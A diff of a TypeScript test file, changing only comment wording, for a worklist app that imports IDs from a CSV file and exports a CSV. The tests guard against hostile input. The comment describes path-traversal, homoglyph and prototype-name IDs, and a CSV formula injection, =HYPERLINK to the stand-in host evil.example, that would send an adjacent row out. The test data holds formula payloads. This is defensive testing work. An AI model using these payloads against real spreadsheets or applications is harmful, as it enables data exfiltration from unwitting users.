@@ -12,16 +12,16 @@ import { aCacheStore, aDeskStore } from '../support/stores/test-stores.ts'
 import { RecordingNotifier } from '../support/fakes/recorders.ts'
 
 /*
- * The attack: a broker mails the officer "this week's applications.csv". Some of its ids are made so
- * that the request for them goes elsewhere ("app_1/../../token"), look like ids that they are not (a
- * Cyrillic letter, a character that turns the line around), name the prototype of an object, or are
- * to hang the window (a quotation mark that is never closed, one endless line). The same broker has
- * written =HYPERLINK("https://evil.example/"&A2) into the merchant of an application and waits for
- * the officer to write the worklist to a file and open it in a spreadsheet: the formula would send
- * the row beside it away, or start a program.
+ * The attack: a broker emails the officer "this week's applications.csv". Some of its IDs are
+ * crafted to redirect the request for them ("app_1/../../token"), to look like other IDs (a
+ * Cyrillic letter, a character that reverses the line), to name an object's prototype, or to hang
+ * the window (an unclosed quotation mark, one endless line). The same broker has entered
+ * =HYPERLINK("https://evil.example/"&A2) as the merchant of an application and waits for the
+ * officer to export the worklist and open it in a spreadsheet: the formula would send the adjacent
+ * row to the attacker, or start a program.
  *
- * Nothing but ids may come in, each thing left out is named by its line and shown harmlessly, and no
- * cell that goes out may begin a formula, whichever separator the spreadsheet believes in.
+ * Only IDs may be imported, each skipped entry is named by its line and shown harmlessly, and no
+ * exported cell may start a formula, whichever separator the spreadsheet uses.
  */
 
 const watch = {
@@ -111,7 +111,7 @@ const formulas = [
   'Shop"\r\n=1+1',
 ]
 
-/** What makes a spreadsheet calculate. */
+/** Characters that start a formula in a spreadsheet. */
 const beginsFormula = /^\s*[=+\-@＝＋－＠]/
 
 describe('a file that goes out', () => {
@@ -161,7 +161,7 @@ describe('a file that goes out', () => {
     const rows = Papa.parse<string[]>(text, { delimiter }).data
     expect(rows.flat().filter((cell) => beginsFormula.test(cell))).toEqual([])
     if (delimiter !== ',') return
-    // Read as what it is, nothing is lost but for the apostrophes that keep a text a text.
+    // Parsed as CSV, nothing is lost except the apostrophes that keep a text from being a formula.
     const merchants = rows.slice(1, -1).map(([, , merchant = '']) => merchant.replaceAll("'", ''))
     expect(merchants).toEqual(formulas)
   })
